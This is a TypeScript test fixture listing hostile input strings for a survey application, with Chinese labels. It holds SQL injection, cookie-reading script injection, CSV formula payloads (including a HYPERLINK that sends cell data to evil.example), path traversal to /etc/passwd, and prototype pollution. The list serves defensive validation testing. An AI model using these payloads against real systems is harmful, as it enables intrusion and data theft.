// Hostile text: what attackers and broken clients put into free-text and id fields.
export const HOSTILE_STRINGS: readonly (readonly [label: string, value: string])[] = [
  ["SQL 注入（引号闭合）", "' OR '1'='1"],
  ["SQL 注入（DROP TABLE）", `x'); DROP TABLE "SurveyResponse"; --`],
  ["SQL 注入（UNION）", "1 UNION SELECT passwordHash FROM User --"],
  ["HTML script", "<script>alert(document.cookie)</script>"],
  ["HTML 属性逃逸", `"><img src=x onerror=alert(1)>`],
  ["CSV 公式 =cmd|", "=cmd|' /C calc'!A0"],
  ["CSV 公式 +", "+SUM(1,2)"],
  ["CSV 公式 @", "@SUM(A1:A2)"],
  ["CSV 公式 -", "-2+3+cmd|' /C calc'!A0"],
  ["CSV 公式 HYPERLINK", '=HYPERLINK("http://evil.example/?"&A1,"点击")'],
  ["RTL 覆盖字符", "\u202Egpj.exe"],
  ["零宽字符", "认\u200B可\uFEFF度"],
  ["路径穿越", "../../../../etc/passwd"],
  ["孤立代理项", "\uD800认可"],
  ["组合字符堆叠", "Z" + "\u0301\u0302\u0303".repeat(60)],
  ["换行与制表符", "第一行\r\n第二行\t结束"],
  ["百分号转义", "%00%2e%2e%2f%E0%A4%A"],
  ["模板占位符", "${7*7}{{7*7}}<%= 7*7 %>"],
  ["JSON 原型污染", '{"__proto__":{"admin":true}}'],
  ["四字节字符", "𠀀𪚥😀👨‍👩‍👧"],
];

/** Strings that must never reach a text column as they are (PostgreSQL refuses NUL; C0 controls are never typed). */
export const CONTROL_STRINGS: readonly (readonly [label: string, value: string])[] = [
  ["空字节", "abc\u0000def"],
  ["退格与响铃控制字符", "a\u0008b\u0007c"],
  ["转义序列", "\u001b[31m红色\u001b[0m"],
];
